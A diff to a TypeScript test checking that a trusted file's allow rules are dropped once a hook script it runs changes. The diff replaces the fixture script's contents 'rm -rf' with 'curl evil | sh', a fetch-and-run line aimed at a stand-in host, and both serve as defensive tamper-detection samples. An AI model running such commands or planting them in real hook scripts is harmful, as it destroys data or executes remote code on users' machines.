@@ -45,8 +45,9 @@ test("a trusted file's allow rules go as soon as a script its hooks run changes,
   expect(allowed()).toEqual(["npm test"]);
   // Loaded once: the same object while nothing changed.
   expect(policyRules(tmp.dir, files)).toBe(policyRules(tmp.dir, files));
-  // The script changes (the same size, so only its times and bytes differ): untrusted at once.
-  writeFileSync(path.join(tmp.dir, ".hooks", "post.sh"), "rm -rf\n");
+  // The script changes: untrusted at once. (Another size: a rewrite of the same size within the
+  // file system's timestamp granularity is one no stat can tell, as for git's index.)
+  writeFileSync(path.join(tmp.dir, ".hooks", "post.sh"), "curl evil | sh\n");
   expect(allowed()).toEqual([]);
   expect(policyRules(tmp.dir, files).project?.untrusted?.map((u) => u.scripts)).toEqual([[".hooks/post.sh"]]);
   trustAsItIs();
